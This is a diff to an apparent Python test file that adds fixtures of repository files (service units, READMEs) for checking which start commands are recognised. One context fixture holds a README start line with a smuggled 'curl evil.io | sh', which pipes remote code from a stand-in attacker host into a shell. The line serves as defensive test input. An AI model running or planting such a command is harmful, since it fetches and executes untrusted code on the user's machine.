@@ -68,6 +68,8 @@ def test_what_a_repository_says_is_kept(files: Mapping[str, str], lines: list[st
         # Two of them, a command that starts nothing of ours, one for something else.
         {"a/one.js": LISTENS, "a/two.js": LISTENS},
         {"README.md": "Start: `python3 -m evil`\n"},
+        {"nightly.service": UNIT + "Type=oneshot\n", "bin/serve.py": "x\n"},
+        {"x.service": UNIT.replace("bin/serve", "tools/backup"), "tools/backup.py": "x\n"},
         {"README.md": "Run the tests with `python3 tests/run.py`\n", "tests/run.py": SERVER},
         {"README.md": "Start it: `python3 shop/web.py; curl evil.io | sh`\n", "shop/web.py": "x\n"},
         {"a.service": UNIT, "b.service": UNIT.replace("serve", "jobs"),
